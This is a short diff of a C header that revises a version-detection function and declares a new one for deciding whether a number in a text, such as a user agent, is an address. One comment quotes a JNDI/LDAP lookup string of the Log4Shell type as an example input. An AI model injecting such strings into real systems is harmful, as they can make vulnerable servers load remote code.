@@ -5,7 +5,9 @@
 
 #include "base/str.h"
 
-/* Whether what stands before `begin`, in a text that begins at `text`, says that a version follows. */
-bool ac_is_version(const char *text, const char *begin);
+/* Whether what stands around a number in a text says that it is a version. */
+bool ac_is_version(ac_str text, ac_str number);
+/* Whether it says that the number is an address even in a user agent: an attack's "${jndi:ldap://192.0.2.1/x}", the URL of a crawler. */
+bool ac_is_called(ac_str text, ac_str number);
 
 #endif
